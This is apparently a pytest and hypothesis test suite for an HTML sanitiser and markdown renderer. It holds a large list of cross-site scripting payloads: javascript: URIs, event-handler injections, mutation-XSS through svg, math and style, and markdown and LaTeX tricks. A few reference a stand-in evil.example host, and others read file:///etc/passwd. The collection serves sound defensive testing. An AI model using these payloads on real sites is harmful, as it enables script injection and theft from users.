"""No input gets a script, a handler, a style or a foreign address past the sanitiser.

The output is parsed and walked tag by tag: the text of a payload may be in it, where it does no
harm.
"""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from footfall.markup import safe_link as link
from footfall.render.links import pictures_as_links, with_whole_addresses
from footfall.render.markdown import render
from footfall.render.pictures import Pictures
from footfall.render.sanitize import ALLOWED, clean

quick = settings(max_examples=120, deadline=None)

FORBIDDEN_TAGS = {
    *("annotation-xml", "applet", "base", "body", "button", "embed", "form", "frame", "frameset"),
    *("head", "html", "iframe", "input", "isindex", "link", "malignmark", "maction", "meta"),
    *("mglyph", "noembed", "noframes", "noscript", "object", "option", "param", "plaintext"),
    *("script", "select", "semantics", "style", "svg", "template", "textarea", "title", "xmp"),
}
GIVEN_ATTRIBUTES = {"a": {"target", "rel"}, "audio": {"preload"}, "video": {"preload"}}
LINKED = re.compile(r"(?!\s)(https?:|mailto:|(?![a-z][a-z0-9+.-]*:))", re.IGNORECASE)
FETCHED = re.compile(r"https?:|(?![a-z][a-z0-9+.-]*:)", re.IGNORECASE)
PASTED = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*")
REL = {"target": "_blank", "rel": "ugc nofollow noreferrer noopener"}

Attributes = list[tuple[str, str | None]]


class Policy(HTMLParser):
    """Collects what it finds against the policy."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: Attributes) -> None:
        if tag in FORBIDDEN_TAGS or tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()) | GIVEN_ATTRIBUTES.get(tag, set()):
                self.found.append(f"<{tag} {name}>")
            self.address(tag, name, value or "")
        self.anchor(tag, {name: value or "" for name, value in attrs})

    def address(self, tag: str, name: str, value: str) -> None:
        bare = re.sub(r"[\x00-\x20]", "", value)
        if name == "href" and not LINKED.match(bare):
            self.found.append(f"href={value}")
        is_pasted = (tag, name) == ("img", "src") and PASTED.fullmatch(value)
        if name in ("src", "poster") and not (FETCHED.match(bare) or is_pasted):
            self.found.append(f"{name}={value}")
        if name.startswith("on") or name in ("style", "srcdoc", "srcset", "action", "xlink:href"):
            self.found.append(name)

    def anchor(self, tag: str, attributes: dict[str, str]) -> None:
        if tag != "a":
            return
        given = {name: attributes[name] for name in REL if name in attributes}
        is_elsewhere = not attributes.get("href", "#").startswith("#")
        if given != (REL if is_elsewhere else {}):
            self.found.append(f"link {attributes}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


def violations(html: str, *, is_mail: bool = False) -> list[str]:
    return (MailPolicy if is_mail else Policy)(html).found


class MailPolicy(Policy):
    """The same, without anything that loads by itself."""

    def handle_starttag(self, tag: str, attrs: Attributes) -> None:
        is_pasted = tag == "img" and str(dict(attrs).get("src")).startswith("data:image/")
        if tag in ("audio", "img", "picture", "source", "video") and not is_pasted:
            self.found.append(f"<{tag}> in a mail")
        super().handle_starttag(tag, attrs)

    def anchor(self, tag: str, attributes: dict[str, str]) -> None:
        """An email's links need no target."""


SCHEMES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
    ),
    *("java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)"),
    *("&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "java&Tab;script:alert(1)"),
    *("vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "blob:http://a/b"),
    *("data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "livescript:x", "jar:http://a!/"),
    *("data:image/svg+xml;base64,PHN2Zz4=", "data:image/png,<script>", "DATA:image/png;base64,a&b"),
    *("feed:javascript:alert(1)", "view-source:javascript:alert(1)", "javascript\x00:alert(1)"),
)
CARRIERS = (
    *('<a href="{}">x</a>', '<img src="{}">', '<video poster="{}" src="{}"></video>'),
    *('<math href="{}"><mi xlink:href="{}">x</mi></math>', "[x](<{}>)", "![x]({})", "<{}>"),
    *('<audio><source src="{}"></audio>', '<form action="{}"><button formaction="{}">', "[x]: {}"),
)
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\t=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img srcset=x onerror=alert(1) src=http://a/b>",
    "<img longdesc=javascript:alert(1) usemap=#m ismap>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><!--</style><img src onerror=alert(1)>--></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype='statusline#http://a' xlink:href='javascript:alert(1)'>x</maction>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math></br><style></math><img src=x onerror=alert(1)></style>",
    "<math><mtext><mglyph><svg><mtext><textarea><a title='</textarea><img src onerror=x>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><a title='</noembed><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video autoplay onplay=alert(1) src=http://a/b></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick=alert(1) style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0;width:expression(alert(1))'>x</div>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<a href='http://a' onmouseover=alert(1) target=_top rel=opener>x</a>",
    "<a href=http://a ping=http://evil.example download>x</a>",
    '<a href="http://a" title="><script>alert(1)</script>">x</a>',
    "<a href='http://a&quot; onclick=alert(1)//'>x</a>",
    "<a href='#x\" onclick=alert(1)'>x</a>",
    "<p id=location name=cookie tabindex=0 accesskey=x contenteditable>x</p>",
    "<img name=getElementById id=body src=http://a/b>",
    "<x onclick=alert(1)>x</x>",
    "<x-y is=z onfocus=alert(1) tabindex=1>x</x-y>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "</p><img src=x onerror=alert(1)>",
    "\u2028<img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"onclick="alert(1)\nx\n```',
    "```python\n</span></code><img src=x onerror=alert(1)>\n```",
    '![x"onerror="alert(1)](http://a/b)',
    '![x](http://a/b"onerror="alert(1))',
    '[x](http://a "x\\" onclick=alert(1)")',
    "[x](http://a?\"onmouseover='alert(1)')",
    "http://a/<script>alert(1)</script>",
    'http://a/"onclick="alert(1)',
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{x}{y}\\style{position:fixed}{z}\\unicode{x3C}script>$",
    '$\\textcolor{red" onclick="alert(1)}{x}$',
    "$$\\begin{array}{c}\\verb|<script>|\\end{array}$$",
    "H~<script>alert(1)</script>~ x^<svg/onload=alert(1)>^",
    "| <script>alert(1)</script> | <b onclick=x> |\n|-|-|\n| <img src=x onerror=x> | x |",
)

WORDS = st.sampled_from(
    [
        "x",
        "alert(1)",
        "http://a/b",
        "//a/b",
        "data:image/png;base64,aaaa",
        "#8",
        "",
        "'",
        '"',
        "`",
        "<!--",
        "-->",
        "]]>",
    ]
)
TAGS = st.sampled_from(sorted(FORBIDDEN_TAGS) + sorted(ALLOWED))
NAMES = st.sampled_from(
    [
        "onclick",
        "onerror",
        "style",
        "class",
        "id",
        "href",
        "src",
        "title",
        "target",
        "rel",
        "srcdoc",
    ]
    + ["xlink:href", "autoplay", "width", "encoding", "poster", "align", "/", "x\x0c"]
)
QUOTES = st.sampled_from(["'", '"', "", "`"])
VALUES = WORDS | st.sampled_from(SCHEMES) | st.text(max_size=8)


@st.composite
def attribute(draw: st.DrawFn) -> str:
    quote = draw(QUOTES)
    return f"{draw(NAMES)}={quote}{draw(VALUES)}{quote}"


@st.composite
def tag(draw: st.DrawFn) -> str:
    attributes = " ".join(draw(st.lists(attribute(), max_size=3)))
    end = draw(st.sampled_from([">", "/>", "", " >", "\n>"]))
    return f"<{draw(TAGS)} {attributes}{end}"


closing = TAGS.map(lambda name: f"</{name}>")
fragments = st.lists(tag() | closing | WORDS | st.text(max_size=8), max_size=12).map("".join)


def test_there_are_many_payloads() -> None:
    assert len(PAYLOADS) + len(SCHEMES) * len(CARRIERS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_known_payload_gets_through(payload: str) -> None:
    assert (violations(clean(payload)), violations(render(payload))) == ([], [])


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize("scheme", SCHEMES)
def test_no_foreign_scheme_gets_through(scheme: str, carrier: str) -> None:
    payload = carrier.replace("{}", scheme)
    assert (violations(clean(payload)), violations(render(payload))) == ([], [])


@pytest.mark.parametrize("scheme", SCHEMES)
def test_no_foreign_scheme_gets_through_as_a_website(scheme: str) -> None:
    assert link(scheme) == ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_output_of_a_payload_is_left_alone(payload: str) -> None:
    once = clean(payload)
    assert clean(once) == once


@quick
@given(st.text())
def test_any_text_is_clean_once_cleaned(text: str) -> None:
    assert (violations(clean(text)), clean(clean(text))) == ([], clean(text))


@quick
@given(fragments)
def test_any_html_is_clean_once_cleaned(html: str) -> None:
    once = clean(html)
    assert (violations(once), clean(once)) == ([], once)


@pytest.mark.parametrize(
    "pictures", [Pictures("https://proxy.example/image"), Pictures(are_shown=False)], ids=repr
)
@quick
@given(fragments)
def test_any_html_is_clean_once_cleaned_with_other_pictures(pictures: Pictures, html: str) -> None:
    once = clean(html, pictures)
    assert (violations(once), clean(once, pictures)) == ([], once)


@quick
@given(st.text() | fragments | st.text("*_[]()!<>`~^$\\|-#:&;\"' \nax1", max_size=80))
def test_any_comment_is_clean_once_rendered(text: str) -> None:
    html = render(text)
    assert (violations(html), clean(html)) == ([], html)


@quick
@given(fragments)
def test_nothing_in_a_mail_is_fetched_by_itself(html: str) -> None:
    page = "https://blog.example/a/b?c=d"
    for whole in (clean(html), with_whole_addresses(clean(html), page)):
        linked = pictures_as_links(whole)
        assert violations(linked, is_mail=True) == []
        assert pictures_as_links(linked) == linked


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_fetched_by_a_mail(payload: str) -> None:
    assert violations(pictures_as_links(clean(payload)), is_mail=True) == []
